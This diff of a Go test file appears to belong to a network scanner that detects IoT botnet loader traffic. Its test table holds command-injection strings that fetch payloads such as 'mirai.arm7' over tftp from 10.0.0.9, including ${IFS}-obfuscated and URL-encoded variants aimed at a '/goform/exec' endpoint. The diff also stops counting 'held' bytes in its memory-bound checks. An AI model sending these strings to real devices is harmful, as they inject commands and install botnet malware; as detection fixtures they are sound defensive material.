@@ -227,7 +227,7 @@ func TestStreamFloodBounded(t *testing.T) {
 	}
 	pkt(infected, tseg{sport: 1, dport: 23, seq: 1, payload: "t"})
 	table := m.streams
-	entries, bytesHeld := len(table.e), len(table.buf)+len(table.held)
+	entries, bytesHeld := len(table.e), len(table.buf)
 	if entries != 256 || bytesHeld != 2*256*256 {
 		t.Fatalf("table of %d entries, %d bytes: want 256 and 131072", entries, bytesHeld)
 	}
@@ -251,7 +251,7 @@ func TestStreamFloodBounded(t *testing.T) {
 	}
 	runtime.GC()
 	runtime.ReadMemStats(&after)
-	if m.streams != table || len(table.e) != entries || len(table.buf)+len(table.held) != bytesHeld {
+	if m.streams != table || len(table.e) != entries || len(table.buf) != bytesHeld {
 		t.Errorf("the table grew: %d entries, %d bytes", len(m.streams.e), len(m.streams.buf))
 	}
 	if grew := int64(after.HeapAlloc) - int64(before.HeapAlloc); grew > 1<<20 {
@@ -437,6 +437,10 @@ var longCommands = []struct {
 		" tftp -g -r tftp1.sh 10.0.0.9\"}", "gafgyt.tftp-loader/strong"},
 	// ${IFS}-spaced, no separator before the fetch; an unlisted name.
 	{80, "GET /x?c=" + strings.Repeat("${IFS}nop", 80) + "${IFS}tftp${IFS}-g${IFS}-r${IFS}update.bin${IFS}10.0.0.9 HTTP/1.1\r\n\r\n", "iot.tftp-dropper.generic/weak"},
+	// One fetch command longer than the tail: a long local name and the
+	// URL-encoding of every byte of it (up to twice the tail is read).
+	{80, "POST /goform/exec HTTP/1.1\r\n\r\ncmd=busybox%20tftp%20-g%20-l%20" + strings.Repeat("%2E%61", 110) +
+		"%20-r%20mirai.arm7%2010.0.0.9", "mirai.tftp-loader/strong"},
 }
 
 // TestStreamLongCommand: a command line longer than the carried tail
@@ -507,8 +511,8 @@ func TestStreamLongCommandFloodBounded(t *testing.T) {
 	}
 	runtime.GC()
 	runtime.ReadMemStats(&after)
-	if m.streams != table || len(table.buf)+len(table.held) != 2*256*256 {
-		t.Errorf("the table grew: %d bytes", len(m.streams.buf)+len(m.streams.held))
+	if m.streams != table || len(table.buf) != 2*256*256 {
+		t.Errorf("the table grew: %d bytes", len(m.streams.buf))
 	}
 	if grew := int64(after.HeapAlloc) - int64(before.HeapAlloc); grew > 1<<20 {
 		t.Errorf("heap grew by %d bytes", grew)
